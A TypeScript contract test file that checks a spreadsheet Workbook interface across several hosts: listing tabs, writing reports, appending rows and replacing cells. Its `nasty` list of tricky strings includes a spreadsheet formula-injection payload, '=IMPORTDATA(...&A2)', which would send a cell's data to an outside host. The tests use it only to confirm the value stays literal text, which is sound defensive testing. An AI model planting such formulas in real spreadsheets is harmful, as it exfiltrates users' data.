import type { Workbook } from '../../src/app/workbook';
import type { Cell, Grid } from '../../src/core/cell/cell';
import { UserError } from '../../src/core/table/user-error';
import type { Look, Sheet } from '../../src/report/sheet';

/*
 * What every host's Workbook must do, whatever it is made over. The cases need no test runner:
 * they run on memory, on .xlsx and on the stand-in for Google, and, as `runContract`, in a live spreadsheet.
 */

/** Makes a workbook of tabs, and reads one back after all that was written has reached the place where it is kept. */
export interface Host {
  make(tabs: Record<string, Grid>): Workbook;
  reopen(workbook: Workbook): Workbook | Promise<Workbook>;
  /** Puts into what was made last what is no value and no tab of cells; left out where a host's tests can make none. */
  odd?: {
    /** A picture in a cell, both counted from 0. */
    putPicture(tab: string, row: number, column: number): void;
    /** A chart on a sheet of its own. */
    addChartTab(name: string): void;
  };
}

export interface Case {
  name: string;
  /** True for a case of what `odd` makes. */
  isOdd?: boolean;
  run(host: Host): Promise<void>;
}

/** The cases that can be played on a host, each with its name. */
export const casesFor = ({ odd }: Host): (readonly [string, Case])[] =>
  cases.filter(({ isOdd }) => odd || !isOdd).map(one => [one.name, one] as const);

export function same(found: unknown, expected: unknown): void {
  if (JSON.stringify(found) !== JSON.stringify(expected))
    throw new Error(`expected ${JSON.stringify(expected)}, found ${JSON.stringify(found)}`);
}

const plain: Look = {
  bold: false,
  italic: false,
  size: 10,
  color: '#202124',
  fill: null,
  format: '',
  align: 'left',
  valign: 'top',
  wrap: false,
  isTurned: false,
  underline: null,
  edge: null,
};

export function sheetOf(name: string, grid: Grid): Sheet {
  return {
    name,
    color: '#1B7F79',
    cells: grid.map(row => row.map(value => ({ value, look: typeof value === 'string' ? { ...plain, format: '@' } : plain }))),
    widths: grid[0]!.map(() => 12),
    heights: grid.map(() => null),
    merges: [],
    body: null,
    frozen: { rows: 1, columns: 0 },
    filter: null,
    rules: [],
    charts: [],
    isLandscape: true,
    folded: null,
    isOnePage: false,
  };
}

/** A list with all that a report tab may have. */
function fullSheet(name: string): Sheet {
  const sheet = sheetOf(name, [
    ['A title over the table', null, null],
    ['Name', 'Share', 'Place'],
    ['Ann', 0.5, 'see Ann'],
    ['Bo', 0.25, 'see Bo'],
  ]);
  const area = (row: number, at: number, rows: number, columns: number) => ({ row, column: at, rows, columns });
  const axis = { title: 'share', format: '0" "%', lowest: 0, highest: 1, step: 0.5 };
  const linked = (cell: string) => ({ link: { tab: 'People', cell }, look: plain });
  return {
    ...sheet,
    cells: sheet.cells.map((row, i) => row.map((cell, j) => (i > 1 && j === 2 ? { ...cell, ...linked(`A${i}`) } : cell))),
    merges: [area(0, 0, 1, 3)],
    filter: area(1, 0, 3, 3),
    rules: [
      { kind: 'text', area: area(2, 0, 2, 1), equals: 'Ann', color: '#202124', fill: '#FBE7E2' },
      { kind: 'below', area: area(2, 1, 2, 1), value: 0.3, color: '#202124', fill: '#FBE7E2' },
    ],
    charts: [
      {
        kind: 'columns',
        title: 'Shares',
        categories: area(2, 0, 2, 1),
        labels: null,
        series: [{ name: 'Share', values: area(2, 1, 2, 1), color: '#1B7F79', mark: 'column' }],
        area: area(5, 0, 8, 3),
        width: 300,
        height: 160,
        across: { ...axis, title: '' },
        axis,
        cut: null,
      },
    ],
  };
}

const people: Grid = [
  ['Name', 'Age', 'Likes'],
  ['Ann', 41, true],
  ['Bo', null, false],
  [null, 7, 'tea'],
];

const column = (workbook: Workbook, tab: string, at: number): Cell[] =>
  workbook.columns(tab, [at], 0, workbook.tabs().find(one => one.name === tab)!.rows)[0]!;

/** Texts that a spreadsheet would gladly take for something else. */
export const nasty: string[] = [
  '=1+1',
  '=IMPORTDATA("https://example.com/?"&A2)',
  '+49 30',
  '-3 stars',
  '@here',
  "'quoted",
  '007',
  '1/2',
  '3-4',
  '50%',
  'TRUE',
  '2026-11-22',
  ' lead',
  'a\nb',
  '5',
  '1e5',
  '$5',
  'née',
  '好',
  '😀',
  '<b>bold</b>',
  '"',
  "it's",
];

export const cases: Case[] = [
  {
    name: 'lists its tabs with their sizes, none of them a report',
    async run({ make }) {
      const found = make({ People: people, Empty: [] }).tabs();
      same(
        found.map(({ name, rows, isReport }) => ({ name, rows, isReport })),
        [
          { name: 'People', rows: 4, isReport: false },
          { name: 'Empty', rows: 0, isReport: false },
        ],
      );
      same(found[0]!.columns, 3);
    },
  },
  {
    name: 'gives the first rows, fewer where there are fewer',
    async run({ make }) {
      const workbook = make({ People: people, Empty: [] });
      same(workbook.head('People', 2), people.slice(0, 2));
      same(workbook.head('People', 99).length, 4);
      same(workbook.head('Empty', 5), []);
    },
  },
  {
    name: 'gives columns of some rows in the order asked for, blanks as null',
    async run({ make }) {
      same(make({ People: people }).columns('People', [2, 0], 1, 3), [
        [true, false, 'tea'],
        ['Ann', 'Bo', null],
      ]);
    },
  },
  {
    name: 'writes a report whose texts stay the texts they are',
    async run({ make, reopen }) {
      const workbook = make({ People: people });
      workbook.writeReport(sheetOf('Report', [['Text', 'Number'], ...nasty.map((text, i) => [text, i])]));
      const again = await reopen(workbook);
      same(
        again.tabs().map(({ name, isReport }) => [name, isReport]),
        [
          ['People', false],
          ['Report', true],
        ],
      );
      same(column(again, 'Report', 0), ['Text', ...nasty]);
      same(column(again, 'Report', 1), ['Number', ...nasty.map((_, i) => i)]);
      same(again.head('People', 9), people);
    },
  },
  {
    name: 'rewrites a report, shorter or longer, and nothing else',
    async run({ make, reopen }) {
      const workbook = make({ People: people });
      workbook.writeReport(sheetOf('Report', [['A'], ['b'], ['c']]));
      const second = await reopen(workbook);
      second.writeReport(sheetOf('Report', [['A'], ['d']]));
      const third = await reopen(second);
      same(column(third, 'Report', 0).slice(0, 2), ['A', 'd']);
      third.writeReport(sheetOf('Report', [['A'], ['e'], ['f'], ['g'], ['h']]));
      const last = await reopen(third);
      same(column(last, 'Report', 0), ['A', 'e', 'f', 'g', 'h']);
      same(last.head('People', 9), people);
    },
  },
  {
    name: 'writes a report wider than 26 columns and longer than 1,000 rows, and a shorter one in its place',
    async run({ make, reopen }) {
      const grid = (rows: number, columns: number): Grid =>
        Array.from({ length: rows }, (_, i) => Array.from({ length: columns }, (_, j) => (i === 0 ? `Column ${j + 1}` : i * j)));
      const workbook = make({ People: people });
      workbook.writeReport(sheetOf('Report', grid(1_200, 40)));
      const second = await reopen(workbook);
      same(column(second, 'Report', 39), ['Column 40', ...Array.from({ length: 1_199 }, (_, i) => (i + 1) * 39)]);
      second.writeReport(sheetOf('Report', grid(3, 40)));
      const last = await reopen(second);
      same(column(last, 'Report', 39).slice(0, 3), ['Column 40', 39, 78]);
      same(
        column(last, 'Report', 39)
          .slice(3)
          .filter(cell => cell !== null),
        [],
      );
      same(last.head('People', 9), people);
    },
  },
  {
    name: 'writes a report with merged cells, a link, a filter, rules and a chart, twice, and its values stay what they are',
    async run({ make, reopen }) {
      const report = fullSheet('Report');
      const workbook = make({ People: people });
      workbook.writeReport(report);
      const second = await reopen(workbook);
      second.writeReport(report);
      const last = await reopen(second);
      same(
        report.cells.map((row, i) => row.map((_, j) => last.head('Report', 9)[i]![j] ?? null)),
        report.cells.map(row => row.map(({ value }) => value)),
      );
      same(last.head('People', 9), people);
    },
  },
  {
    name: 'a picture in a cell is no value, a chart on a sheet of its own is no tab, and a report stands beside them',
    isOdd: true,
    async run(host) {
      const { odd, reopen } = host;
      const made = host.make({ People: people });
      odd!.putPicture('People', 1, 0);
      odd!.putPicture('People', people.length + 2, 1);
      odd!.addChartTab('Growth');
      const workbook = await reopen(made);
      same(
        workbook.tabs().map(({ name, rows }) => [name, rows]),
        [['People', people.length + 3]],
      );
      const seen = people.map((row, i) => (i === 1 ? [null, ...row.slice(1)] : row));
      same(workbook.head('People', people.length), seen);
      same(column(workbook, 'People', 0).slice(1, 3), [null, people[2]![0]]);
      workbook.writeReport(sheetOf('Report', [['A'], ['b']]));
      const again = await reopen(workbook);
      same(column(again, 'Report', 0), ['A', 'b']);
      same(again.head('People', people.length), seen);
      let code = '';
      try {
        again.writeReport(sheetOf('growth', [['A']]));
      } catch (error) {
        code = error instanceof UserError ? error.code : String(error);
      }
      same(code, 'tab-taken');
    },
  },
  {
    name: "refuses to write over a user's tab, whatever the case of its name",
    async run({ make, reopen }) {
      const workbook = make({ summary: [['mine']] });
      let code = '';
      try {
        workbook.writeReport(sheetOf('Summary', [['A']]));
      } catch (error) {
        code = error instanceof UserError ? error.code : String(error);
      }
      same(code, 'tab-taken');
      same((await reopen(workbook)).head('summary', 5), [['mine']]);
    },
  },
  {
    name: 'announces a report, which then takes the place of the announcement',
    async run({ make, reopen }) {
      const workbook = make({ People: people });
      workbook.announce('Report', 'Not finished');
      workbook.writeReport(sheetOf('Report', [['A'], ['b']]));
      same(column(await reopen(workbook), 'Report', 0), ['A', 'b']);
    },
  },
  {
    name: 'appends rows below the last used one',
    async run({ make, reopen }) {
      const workbook = make({ People: people });
      workbook.appendRows('People', [
        ['=Cy', 3],
        ['Di', null],
      ]);
      const again = await reopen(workbook);
      same(column(again, 'People', 0), ['Name', 'Ann', 'Bo', null, '=Cy', 'Di']);
      same(column(again, 'People', 1), ['Age', 41, null, 7, 3, null]);
    },
  },
  {
    name: 'fills blank cells, and leaves what is there',
    async run({ make, reopen }) {
      const workbook = make({ People: people });
      workbook.fillBlanks('People', [
        { row: 1, column: 0, value: 'X' },
        { row: 3, column: 0, value: 'Y' },
      ]);
      same(column(await reopen(workbook), 'People', 0), ['Name', 'Ann', 'Bo', 'Y']);
    },
  },
  {
    name: 'fills no cell of a row that is another one by now',
    async run({ make, reopen }) {
      const workbook = make({ People: people });
      workbook.fillBlanks('People', [
        { row: 3, column: 0, value: 'Y', beside: { column: 2, value: 'coffee' } },
        { row: 2, column: 1, value: 9, beside: { column: 0, value: 'Bo' } },
      ]);
      const again = await reopen(workbook);
      same(column(again, 'People', 0), ['Name', 'Ann', 'Bo', null]);
      same(column(again, 'People', 1), ['Age', 41, 9, 7]);
    },
  },
  {
    name: 'replaces cells that hold what was read, gives the others, and touches no neighbour',
    async run({ make, reopen }) {
      const rows: Grid = [
        ['Text', 'Number'],
        ...nasty.map((text, i): Cell[] => [text, i]),
        ['Sotre', '4,5'],
        ['Store', true],
        ['Sotre', null],
      ];
      const workbook = make({ People: people, Rows: rows });
      const [first, last] = [nasty.length + 1, nasty.length + 3];
      const left = workbook.replaceCells('Rows', [
        { row: first, column: 0, from: 'Sotre', to: 'Store' },
        { row: last, column: 0, from: 'Sotre', to: 'Store' },
        { row: first, column: 1, from: '4,5', to: 4.5 },
        { row: first + 1, column: 1, from: false, to: 'no' },
        { row: last, column: 1, from: null, to: '=1+1' },
      ]);
      same(left, [{ row: first + 1, column: 1, why: 'changed' }]);
      const again = await reopen(workbook);
      same(column(again, 'Rows', 0), ['Text', ...nasty, 'Store', 'Store', 'Store']);
      same(column(again, 'Rows', 1), ['Number', ...nasty.map((_, i) => i), 4.5, true, '=1+1']);
      same(again.head('People', 9), people);
    },
  },
  {
    name: 'replaces neighbours of different values at once, and a cell by nothing',
    async run({ make, reopen }) {
      const workbook = make({ People: people });
      const left = workbook.replaceCells('People', [
        { row: 2, column: 0, from: 'Bo', to: '2026-11-22' },
        { row: 1, column: 0, from: 'Ann', to: null },
        { row: 3, column: 0, from: 'Cy', to: 'Di' },
      ]);
      same(left, [{ row: 3, column: 0, why: 'changed' }]);
      same(column(await reopen(workbook), 'People', 0), ['Name', null, '2026-11-22', null]);
    },
  },
  {
    name: 'makes an input tab with its header and rows, and refuses a name in use',
    async run({ make, reopen }) {
      const workbook = make({ People: people });
      const of = (name: string) => ({
        name,
        columns: [{ header: 'Touchpoint', note: 'Where', isRequired: true, choices: ['Shop', 'Web'], format: '@', width: 20 }],
        rows: [['Shop'], ['=Web']],
      });
      workbook.createInputTab(of('Touchpoints'));
      let code = '';
      try {
        workbook.createInputTab(of('people'));
      } catch (error) {
        code = error instanceof UserError ? error.code : String(error);
      }
      same(code, 'tab-taken');
      const again = await reopen(workbook);
      same(column(again, 'Touchpoints', 0), ['Touchpoint', 'Shop', '=Web']);
      same(again.tabs().find(tab => tab.name === 'Touchpoints')!.isReport, false);
    },
  },
];
